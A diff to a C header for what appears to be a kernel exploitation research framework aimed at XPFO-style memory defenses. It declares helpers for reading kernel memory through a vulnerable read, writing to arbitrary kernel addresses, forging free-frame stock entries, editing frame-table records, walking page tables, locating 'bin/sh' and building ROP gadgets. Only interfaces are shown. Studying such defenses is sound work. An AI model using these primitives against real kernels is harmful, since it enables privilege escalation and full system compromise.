@@ -41,6 +41,11 @@ void *attack_huge_page(void);
  * did for this process. For attacks on what page tables say, where xpfo=v7noflush flushes nothing.
  */
 void attack_settle(void);
+/*
+ * Blocks. The witness looks at this address space now: a process that shares it leaves it. For
+ * attacks that cannot keep what they have until they end.
+ */
+void attack_have_witnessed(void);
 /* The frame behind a mapped address of this process. */
 uint64_t attack_pfn(const void *address);
 /* Where the direct map would have the same byte. */
@@ -60,14 +65,70 @@ bool attack_dma_zero32(uint64_t pa);
 static inline uint64_t attack_entry_frame(uint64_t entry) { return entry >> 12 & 0xfffffffff; }
 /* The entry of the 4 KiB page at an address in the root at this frame, and where it is; 0: none. */
 uint64_t attack_entry(const struct bw_leak *leak, uint64_t root, uint64_t address, uint64_t *place);
-/* The entry of the first 4 KiB page of user space that the root leads to; 0: there is none. */
-uint64_t attack_first_page(const struct bw_leak *leak, uint64_t root);
+/* The same of the table below which that page is: level 2 is the page table's, as the manuals count
+ * them. */
+uint64_t attack_entry_at(const struct bw_leak *leak, uint64_t root, uint64_t address, int level,
+			 uint64_t *place);
+/* The 4 KiB pages of user space that the root leads to, from the lowest address on, at most so
+ * many; how many there are. */
+struct attack_page {
+	uint64_t address, place, entry; /* place: of the entry */
+};
+size_t attack_list_pages(const struct bw_leak *leak, uint64_t root, struct attack_page *pages,
+			 size_t nr_most);
+/* The frame table says of the page tables of these pages that this root leads to them. Debug builds
+ * hold that against what they flush. */
+void attack_note_root(const struct bw_leak *leak, const struct attack_page *pages, size_t nr,
+		      uint64_t root);
 /*
  * Where the kernel keeps the links of the frame behind an address of its own. Of a pool's frame
  * they say which page of its area it is, in units of FRAME_LINK_PREV.
  */
 #define FRAME_LINK_PREV (1ul << 29)
 uint64_t attack_frame_link(const struct bw_leak *leak, uint64_t address);
+
+/* Two ranges of 2 MiB, one behind the other, each with a page table of its own: the first page of
+ * the first is there, of the second `has_second` says it. Ends the attack where there are none. */
+enum { ATTACK_RANGE_BYTES = 512 * BW_PAGE_SIZE };
+volatile char *attack_ranges(bool has_second);
+/* Where the direct map has a frame. */
+static inline uint64_t attack_frame_alias(const struct bw_leak *leak, uint64_t pfn)
+{
+	return leak->direct_map_base + pfn * BW_PAGE_SIZE;
+}
+/* Adds to the 8 bytes at a kernel address. */
+void attack_add(uint64_t address, uint64_t increment);
+
+/* ---- Stocks of frames (attack_stock.c) ---- */
+
+/* Puts this frame in the place of the one that the processor would take next, with one store where
+ * there is one. The frame that was there; 0: none was. */
+uint64_t attack_stock_forge(const struct bw_stock *stock, uint64_t pfn);
+/* Puts it back, once the forged one was taken; does nothing for 0. */
+void attack_stock_return(const struct bw_stock *stock, uint64_t pfn);
+/* Puts one in the place of another that is in the stock by now. */
+void attack_stock_replace(const struct bw_stock *stock, uint64_t pfn, uint64_t by);
+
+/* What the kernel's books say of a frame, but for the frame's place in lists. */
+struct attack_frame_books {
+	uint64_t place, state;           /* of its entry in the frame table, 8 bytes */
+	uint64_t links_place, links;     /* the same beside it */
+	uint64_t history_place, history; /* what it was before */
+};
+void attack_frame_books_read(const struct bw_leak *leak, uint64_t pfn,
+			     struct attack_frame_books *books);
+/* Writes what was read. */
+void attack_frame_books_restore(const struct attack_frame_books *books);
+/* The frame counts as free, and as hidden or not as it is. */
+void attack_frame_books_free(const struct attack_frame_books *books);
+
+/* ---- The boot archive (attack_archive.c) ---- */
+
+/* Kernel memory, through the vulnerable read. */
+void attack_read(uint64_t from, void *to, size_t nr_bytes);
+/* Where the archive has the first byte of this file ("bin/sh"), from its own first byte on; 0: it
+ * does not have it. */
+uint64_t attack_archive_find(const struct bw_leak *leak, const char *name);
 
 /* ---- Sealed memory (attack_sealed.c) ---- */
 
@@ -127,6 +188,11 @@ struct attack_frame {
 };
 
 /*
+ * Where variants of XPFO have kept most of free memory out of the direct map, brings some of it
+ * back there: for attacks that must find such frames to succeed.
+ */
+void attack_frames_reveal(void);
+/*
  * A frame that this process gave back, that is in the direct map, and that its next 4 KiB page will
  * have. False: the variant of XPFO does not put it there, or keeps frames in a cache before it.
  */
@@ -182,7 +248,7 @@ struct gadget {
 	uint64_t at_return;    /* that of its last instruction, the ret */
 	unsigned int nr_extra; /* further words that it pops */
 };
-enum gadget_register { GADGET_RSI = 6, GADGET_RDI = 7 };
+enum gadget_register { GADGET_RSP = 4, GADGET_RSI = 6, GADGET_RDI = 7 };
 
 /* Ends the attack where there is no memory for a copy. Nothing is read yet. */
 void gadget_text_open(struct gadget_text *text, const struct bw_leak *leak);
